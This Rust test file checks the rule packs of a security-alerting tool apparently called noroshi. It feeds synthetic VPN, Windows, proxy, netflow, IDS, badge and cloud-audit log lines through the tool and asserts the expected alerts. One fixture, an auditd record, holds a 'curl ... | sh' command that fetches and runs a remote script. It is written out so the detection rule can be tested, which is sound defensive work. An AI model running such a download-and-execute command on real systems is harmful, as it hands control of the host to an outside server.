//! The rule packs that read tables: realistic lines in, exactly the alerts they are for out.

use std::collections::BTreeSet;

use noroshi_tests::process::{run, told};
use noroshi_tests::work_dir::WorkDir;
use serde_json::Value;

const NOROSHI: &str = env!("CARGO_BIN_EXE_noroshi");
const PACKS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/packs");

const TABLES: &[(&str, &str)] = &[
    ("assets", "host,ip,mac,role\nweb01,10.1.0.10,00:50:56:00:00:01,web\nbk01,10.1.0.20,00:50:56:00:00:02,backup\n"),
    ("users", "user,dept,shift\nkato,loan,day\nmori,marketing,night\n"),
    ("vendors", "account,src,dow,from,to\nvnd-a,192.0.2.0/28,Tue;Thu,10:00,16:00\n"),
    ("decoys", "account\nsvc-old\n"),
    ("software_allow", "name\nopenssl\nOffice Suite\n"),
    ("categories", "host,category\nshare.example,file-sharing\nsocial.example,sns\n"),
    (
        "baseline_hash",
        "host,file,sha256\nweb01,/usr/sbin/sshd,1111111111111111111111111111111111111111111111111111111111111111\n",
    ),
    ("geo", "cidr,country\n192.0.2.0/24,JP\n203.0.113.0/24,RO\n"),
    ("iocs", "type,indicator\ndomain,bad.example\n"),
];

/// Titles of the alerts over the files' lines, each once.
#[track_caller]
fn alerts(files: &[(&str, &str)]) -> BTreeSet<String> {
    let dir = WorkDir::default();
    for (name, text) in TABLES {
        dir.write(&format!("tables/{name}.csv"), text);
    }
    let mut args = vec![
        "replay",
        "--rules",
        PACKS,
        "--tables",
        "tables",
        "--timezone",
        "Asia/Tokyo",
        "--reference-time",
        "2026-03-10T00:00:00Z",
    ];
    for (name, text) in files {
        dir.write(name, text);
        args.push(name);
    }
    let output = run(NOROSHI, dir.path(), &args, b"");
    assert_eq!(output.status.code(), Some(0), "{}", told(&output));
    let text = String::from_utf8(output.stdout).expect("UTF-8");
    let title = |line: &str| {
        let alert: Value = serde_json::from_str(line).expect("JSON");
        alert["rule"]["name"].as_str().expect("a title").to_owned()
    };
    text.lines().map(title).collect()
}

#[track_caller]
fn check(files: &[(&str, &str)], expected: &[&str]) {
    assert_eq!(alerts(files), expected.iter().map(|title| (*title).to_owned()).collect::<BTreeSet<_>>());
}

fn vpn(day: u32, time: &str, user: &str, address: &str) -> String {
    format!(
        "<166>Mar  {day} {time} fw01 : %ASA-6-722051: Group <VPN> User <{user}> IP <{address}> Address <10.30.0.5> assigned to session.\n"
    )
}

#[test]
fn vendors_come_from_their_source_in_their_hours() {
    // 2026-03-03 is a Tuesday.
    check(&[("fw.log", &vpn(3, "12:00:00", "vnd-a", "192.0.2.5"))], &[]);
    let title = "Vendor Access From An Unapproved Source Or Outside Its Hours";
    check(&[("fw.log", &vpn(3, "12:00:00", "vnd-a", "192.0.2.99"))], &[title]);
    check(&[("fw.log", &vpn(3, "02:00:00", "vnd-a", "192.0.2.5"))], &[title]);
}

#[test]
fn nobody_is_in_two_countries_at_once() {
    let from = |first: &str, second: &str| vpn(3, "09:00:00", "kato", first) + &vpn(3, "09:35:00", "kato", second);
    check(&[("fw.log", &from("192.0.2.50", "192.0.2.60"))], &[]);
    check(&[("fw.log", &from("192.0.2.50", "203.0.113.9"))], &["VPN Sessions Too Far Apart For One Person"]);
}

#[test]
fn a_decoy_is_never_used() {
    let line = |user: &str| {
        format!(
            "{{\"@timestamp\":\"2026-03-03T12:00:00+09:00\",\"Hostname\":\"dc01\",\"Channel\":\"Security\",\"EventID\":4625,\"TargetUserName\":\"{user}\",\"LogonType\":3,\"IpAddress\":\"10.1.0.9\"}}\n"
        )
    };
    check(&[("win.ndjson", &line("kato"))], &[]);
    check(&[("win.ndjson", &line("SVC-Old"))], &["Decoy Account Used On Windows"]);
}

#[test]
fn devices_and_software_are_those_of_the_inventories() {
    let lease =
        |mac: &str| format!("<30>Mar  3 09:00:00 dhcp01 dhcpd[8]: DHCPACK on 10.1.0.77 to {mac} (pc) via eth1\n");
    check(&[("dhcp.log", &lease("00:50:56:00:00:01"))], &[]);
    check(&[("dhcp.log", &lease("02:00:00:00:00:99"))], &["Address Lease For A Device That Is Not In The Inventory"]);

    let package =
        |name: &str| format!("<30>1 2026-03-03T09:00:00+09:00 web01 dpkg - - - status installed {name}:amd64 1.0-1\n");
    check(&[("sys.log", &package("openssl"))], &[]);
    check(&[("sys.log", &package("miner"))], &["Package Installed That Is Not Approved"]);

    let product = |name: &str| {
        format!(
            "{{\"@timestamp\":\"2026-03-03T12:00:00+09:00\",\"Hostname\":\"WS01\",\"Channel\":\"Application\",\"EventID\":11707,\"Product\":\"{name}\"}}\n"
        )
    };
    check(&[("win.ndjson", &product("office suite"))], &[]);
    check(&[("win.ndjson", &product("Free Tunnel"))], &["Windows Software Installed That Is Not Approved"]);

    let digest = |digit: &str| {
        format!(
            "<30>1 2026-03-03T09:00:00+09:00 web01 aide 9 - - file=/usr/sbin/sshd sha256={} status=x\n",
            digit.repeat(64)
        )
    };
    check(&[("sys.log", &digest("1"))], &[]);
    check(&[("sys.log", &digest("2"))], &["Protected File Differs From Its Baseline"]);
}

#[test]
fn uploads_and_volumes_leave_by_approved_ways_only() {
    let proxy = |method: &str, site: &str, user: &str| {
        format!(
            "1772500000.508    766 10.1.0.36 TCP_MISS/200 900 {method} http://{site}/x {user} HIER_DIRECT/203.0.113.74 text/html\n"
        )
    };
    check(&[("proxy.log", &proxy("GET", "share.example", "kato"))], &[]);
    check(&[("proxy.log", &proxy("POST", "a.share.example", "kato"))], &["Upload To A File Sharing Site"]);
    check(&[("proxy.log", &proxy("GET", "social.example", "mori"))], &[]);
    check(&[("proxy.log", &proxy("GET", "social.example", "kato"))], &["Social Network Used By Staff Who Need Not"]);

    let flows = |source: &str, bytes: u64| {
        let row = |minute: u32| {
            format!(
                "2026-03-03T02:{minute:02}:00.000+09:00,2026-03-03T02:{minute:02}:30.000+09:00,{source},203.0.113.9,40000,443,6,900,{bytes}\n"
            )
        };
        "start,end,src,dst,sport,dport,proto,packets,bytes\n".to_owned() + &[0, 7, 19, 20, 41].map(row).concat()
    };
    check(&[("netflow.csv", &flows("10.1.0.36", 90_000_000))], &[]);
    check(&[("netflow.csv", &flows("10.1.0.36", 110_000_000))], &["Much Data To One Outside Address"]);
    check(&[("netflow.csv", &flows("10.1.0.20", 110_000_000))], &[]);
}

#[test]
fn a_rhythm_of_flows_is_a_beacon() {
    let flows = |spread: u32| {
        let row = |at: u32| {
            let second = at * 60 + at * at * 37 % (2 * spread + 1);
            let stamp = format!("2026-03-03T02:{:02}:{:02}.000+09:00", second / 60, second % 60);
            format!("{stamp},{stamp},10.1.0.36,203.0.113.9,40000,443,6,9,900\n")
        };
        "start,end,src,dst,sport,dport,proto,packets,bytes\n".to_owned() + &(0..45).map(row).collect::<String>()
    };
    check(&[("netflow.csv", &flows(4))], &["Regular Connections To One Outside Address"]);
    check(&[("netflow.csv", &flows(50))], &[]);
}

#[test]
fn an_attack_that_worked_is_one_finding() {
    let ids = "{\"timestamp\":\"2026-03-03T03:00:00.000000+0000\",\"event_type\":\"alert\",\"src_ip\":\"203.0.113.41\",\"dest_ip\":\"10.1.0.10\",\"proto\":\"TCP\",\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":2034647,\"rev\":1,\"signature\":\"Exploit\",\"category\":\"Attempted Administrator Privilege Gain\",\"severity\":1}}\n";
    let shell = "<38>1 2026-03-03T12:00:20+09:00 web01 auditd - - - type=EXECVE msg=audit(1772506820.000:1): argc=3 a0=\"sh\" a1=\"-c\" a2=\"curl http://203.0.113.77/x|sh\"\n";
    let told = alerts(&[("eve.json", ids), ("sys.log", shell)]);
    assert!(told.contains("Attacked Host Downloads And Runs"), "{told:?}");
    assert!(!alerts(&[("eve.json", ids)]).contains("Attacked Host Downloads And Runs"));
}

#[test]
fn doors_and_the_cloud() {
    let door = |minute: u32, result: &str| format!("2026-03-03T02:{minute:02}:00.000+09:00,DC-1,B1,kato,{result},IN\n");
    let header = "time,door,badge_id,name,result,direction\n";
    let denied = |times: u32| header.to_owned() + &(0..times).map(|at| door(at, "DENIED")).collect::<String>();
    check(&[("badge.csv", &denied(3))], &[]);
    check(&[("badge.csv", &denied(4))], &["Door Denied Again And Again"]);
    let inside = header.to_owned() + &door(0, "GRANTED");
    check(
        &[("badge.csv", &inside), ("fw.log", &vpn(3, "02:20:00", "kato", "192.0.2.50"))],
        &["In A Secured Room By Badge And Outside By VPN", "In The Building At Night And No Logon"],
    );
    let late = [("badge.csv", &*inside), ("fw.log", &vpn(3, "04:20:00", "kato", "192.0.2.50"))];
    check(&late, &["In The Building At Night And No Logon"]);

    let policy = |effect: &str| {
        format!(
            "{{\"eventVersion\":\"1.08\",\"userIdentity\":{{\"type\":\"IAMUser\",\"userName\":\"kato\"}},\"eventTime\":\"2026-03-03T05:00:00Z\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"PutBucketPolicy\",\"awsRegion\":\"ap-northeast-1\",\"sourceIPAddress\":\"10.1.0.58\",\"eventID\":\"1\",\"requestParameters\":{{\"bucketName\":\"b\",\"bucketPolicy\":{{\"Statement\":[{{\"Effect\":\"{effect}\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\"}}]}}}}}}\n"
        )
    };
    check(&[("trail.ndjson", &policy("Deny"))], &[]);
    check(&[("trail.ndjson", &policy("Allow"))], &["AWS Bucket Opened To Everybody"]);
}

#[test]
fn a_table_of_indicators_is_an_indicator_list() {
    let query = "02-Mar-2026 00:03:10.886 client @0x7f 10.1.0.48#52722 (bad.example): query: bad.example IN A +E(0)K (10.1.0.16)\n";
    let told = alerts(&[("dns.log", query)]);
    assert!(told.iter().any(|title| title.starts_with("Known indicator")), "{told:?}");
}

#[test]
fn a_broken_table_is_refused_with_its_place() {
    let dir = WorkDir::default();
    dir.write("tables/assets.csv", "ip,role\n192.0.2.1,web\nnowhere,db\n");
    dir.write("x.log", "x\n");
    let output = run(NOROSHI, dir.path(), &["replay", "--rules", PACKS, "--tables", "tables", "x.log"], b"");
    assert_eq!(output.status.code(), Some(2), "{}", told(&output));
    assert!(told(&output).contains("assets.csv:3"), "{}", told(&output));
}
